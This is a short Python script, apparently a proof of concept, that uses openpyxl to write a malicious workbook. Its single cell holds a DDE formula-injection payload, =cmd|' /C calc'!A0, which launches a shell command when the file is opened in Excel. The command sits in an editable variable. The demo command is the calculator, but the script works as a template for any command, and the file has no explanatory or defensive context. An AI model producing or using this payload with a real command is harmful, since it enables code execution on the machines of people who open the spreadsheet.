from openpyxl import Workbook
command = "calc"
wb = Workbook()
wb.active["A1"] = f"=cmd|' /C {command}'!A0"
wb.save("x.xlsx")
